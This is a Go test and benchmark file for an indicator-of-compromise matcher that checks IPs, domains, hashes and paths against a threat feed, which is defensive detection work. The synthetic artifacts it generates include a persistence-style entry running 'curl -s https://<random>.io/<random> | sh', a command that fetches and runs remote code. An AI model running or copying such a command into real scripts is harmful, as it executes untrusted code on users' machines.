@@ -0,0 +1,150 @@
+package ioc
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+	"testing"
+)
+
+func TestMatcherBoundaries(t *testing.T) {
+	hash := strings.Repeat("ab", 32)
+	m, err := NewMatcher([]Indicator{
+		{Type: TypeIP, Value: "1.2.3.4"},
+		{Type: TypeIP, Value: "10.20.0.0/16"},
+		{Type: TypeIP, Value: "2001:db8::/32"},
+		{Type: TypeDomain, Value: "evil.example"},
+		{Type: TypeHash, Value: hash},
+		{Type: TypePath, Value: "/tmp/x"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		value string
+		want  string
+	}{
+		{"connect 1.2.3.4:443", "1.2.3.4"},
+		{"seen at 1.2.3.4.", "1.2.3.4"},
+		{"11.2.3.45", ""},
+		{"1.2.3.45", ""},
+		{"21.2.3.4", ""},
+		{"10.20.5.6", "10.20.0.0/16"},
+		{"10.21.0.1", ""},
+		{"[2001:db8::1]:443", "2001:db8::/32"},
+		{"2001:db9::1", ""},
+		{"c2.evil.example", "evil.example"},
+		{"https://EVIL.example/x", "evil.example"},
+		{"notevil.example", ""},
+		{"evil.example.org", ""},
+		{"sha256=" + hash, hash},
+		{"0" + hash, ""},
+		{"/tmp/x/y", "/tmp/x"},
+		{"/tmp/x", "/tmp/x"},
+		{"/tmp/xy", ""},
+		{"/private/tmp/x", ""},
+	}
+	for _, tt := range tests {
+		hits := m.Match(map[string]interface{}{"v": tt.value}, "")
+		var got []string
+		for _, h := range hits {
+			got = append(got, h.Indicator.Value)
+		}
+		if strings.Join(got, ",") != tt.want {
+			t.Errorf("Match(%q) = %v, want %q", tt.value, got, tt.want)
+		}
+	}
+}
+
+// BenchmarkMatcher measures matching against a 200,000-indicator synthetic
+// feed, to check matching stays fast with large feeds. One artifact in 50
+// carries a value from the feed.
+func BenchmarkMatcher(b *testing.B) {
+	rng := rand.New(rand.NewSource(1))
+	inds := benchIndicators(rng, 200000)
+	m, err := NewMatcher(inds)
+	if err != nil {
+		b.Fatal(err)
+	}
+	artifacts := make([]map[string]interface{}, 20000)
+	for i := range artifacts {
+		artifacts[i] = benchArtifact(rng, inds, i%50 == 0)
+	}
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		m.Match(artifacts[i%len(artifacts)], "")
+	}
+}
+
+// BenchmarkNewMatcher measures building the matcher for the same feed
+func BenchmarkNewMatcher(b *testing.B) {
+	inds := benchIndicators(rand.New(rand.NewSource(1)), 200000)
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if _, err := NewMatcher(inds); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func benchIndicators(rng *rand.Rand, n int) []Indicator {
+	inds := make([]Indicator, n)
+	for i := range inds {
+		switch i % 10 {
+		case 0, 1, 2, 3:
+			inds[i] = Indicator{Type: TypeHash, Value: randomHex(rng, 64)}
+		case 4, 5:
+			inds[i] = Indicator{Type: TypeDomain, Value: fmt.Sprintf("%s.%s.com", randomWord(rng), randomWord(rng))}
+		case 6:
+			if i%7 == 0 {
+				inds[i] = Indicator{Type: TypeIP, Value: fmt.Sprintf("%d.%d.0.0/16", 1+rng.Intn(223), rng.Intn(256))}
+			} else {
+				inds[i] = Indicator{Type: TypeIP, Value: fmt.Sprintf("%d.%d.%d.%d", 1+rng.Intn(223), rng.Intn(256), rng.Intn(256), rng.Intn(256))}
+			}
+		case 7, 8:
+			inds[i] = Indicator{Type: TypePath, Value: fmt.Sprintf("/Users/Shared/.%s/%s", randomWord(rng), randomWord(rng))}
+		default:
+			inds[i] = Indicator{Type: TypeURL, Value: fmt.Sprintf("https://%s.net/%s", randomWord(rng), randomWord(rng))}
+		}
+	}
+	return inds
+}
+
+func benchArtifact(rng *rand.Rand, inds []Indicator, withIOC bool) map[string]interface{} {
+	data := map[string]interface{}{
+		"path":    fmt.Sprintf("/Users/alice/Library/LaunchAgents/com.%s.%s.plist", randomWord(rng), randomWord(rng)),
+		"program": fmt.Sprintf("/Applications/%s.app/Contents/MacOS/%s", randomWord(rng), randomWord(rng)),
+		"url":     fmt.Sprintf("https://www.%s.org/%s?id=%d", randomWord(rng), randomWord(rng), rng.Intn(1e6)),
+		"remote":  fmt.Sprintf("%d.%d.%d.%d:443", rng.Intn(256), rng.Intn(256), rng.Intn(256), rng.Intn(256)),
+		"sha256":  randomHex(rng, 64),
+		"program_arguments": []interface{}{
+			"/bin/sh", "-c", fmt.Sprintf("curl -s https://%s.io/%s | sh", randomWord(rng), randomWord(rng)),
+		},
+	}
+	if withIOC {
+		data["command"] = "open " + inds[rng.Intn(len(inds))].Value
+	}
+	return data
+}
+
+func randomHex(rng *rand.Rand, n int) string {
+	const digits = "0123456789abcdef"
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = digits[rng.Intn(len(digits))]
+	}
+	return string(b)
+}
+
+func randomWord(rng *rand.Rand) string {
+	const letters = "abcdefghijklmnopqrstuvwxyz"
+	b := make([]byte, 4+rng.Intn(8))
+	for i := range b {
+		b[i] = letters[rng.Intn(len(letters))]
+	}
+	return string(b)
+}